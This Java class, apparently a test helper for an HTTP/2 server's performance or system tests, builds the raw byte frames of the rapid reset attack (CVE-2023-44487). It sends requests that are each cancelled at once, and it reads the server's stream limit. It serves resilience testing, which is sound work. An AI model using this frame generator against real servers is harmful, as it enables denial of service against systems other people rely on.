package chat.whisper.perf.system;

import java.io.IOException;
import java.nio.charset.StandardCharsets;

/** What whoever attacks by rapid reset says over HTTP/2, as ISO-8859-1: requests, each of which is reset at once (CVE-2023-44487). */
final class RapidReset {
    /** The client's preface and its empty SETTINGS. */
    static final String BEGINNING = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";

    private static final int SETTINGS = 4;
    private static final int SETTING = 6;
    private static final int MAX_CONCURRENT_STREAMS = 3;

    private RapidReset() {}

    /** The first requests of a connection. */
    static String streams(int count) {
        var frames = new StringBuilder();
        for (var n = 0; n < count; n++) {
            // RST_STREAM, CANCEL.
            frames.append(request(n)).append("\0\0\4\3\0").append(stream(n)).append("\0\0\0\10");
        }
        return frames.toString();
    }

    /** One that is not reset, with its number on the connection. */
    static String request(int number) {
        // HEADERS, end of headers and stream: GET, http, / from the static table.
        return "\0\0\3\1\5" + stream(number) + "\u0082\u0086\u0084";
    }

    private static String stream(int number) {
        var id = 2 * number + 1;
        return "\0\0" + (char) (id >> 8) + (char) (id & 0xff);
    }

    /** How many streams the server's first frame allows at a time. */
    static int streamsAllowedTo(Visitor visitor) throws IOException {
        var frame = bytes(visitor.hears(9));
        if (frame[3] != SETTINGS) {
            throw new IOException("a frame of type " + frame[3] + " where SETTINGS come first");
        }
        var settings = bytes(visitor.hears(word(frame, 1)));
        for (var at = 0; at < settings.length; at += SETTING) {
            if (word(settings, at) == MAX_CONCURRENT_STREAMS) {
                return word(settings, at + 4);
            }
        }
        return Integer.MAX_VALUE;
    }

    private static int word(byte[] bytes, int at) {
        return Byte.toUnsignedInt(bytes[at]) << 8 | Byte.toUnsignedInt(bytes[at + 1]);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
